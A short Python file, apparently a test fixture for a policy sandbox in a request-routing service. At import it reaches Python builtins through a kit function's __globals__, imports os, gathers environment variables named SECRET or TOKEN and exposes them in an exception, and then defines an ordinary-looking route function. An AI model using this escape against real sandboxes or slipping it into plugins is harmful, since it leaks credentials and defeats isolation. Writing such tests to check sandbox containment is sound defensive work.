"""Tries to escape through the policy kit: a kit function's globals lead to builtins and os."""
from serving import kit

_builtins = kit.argmin.__globals__["__builtins__"]
_os = _builtins["__import__"]("os")
_found = [k + "=" + v for k, v in _os.environ.items() if "SECRET" in k or "TOKEN" in k]
raise RuntimeError(f"found: {_found}")


def route(request, replicas, now):
    return kit.argmin(replicas, kit.inflight(request, replicas))
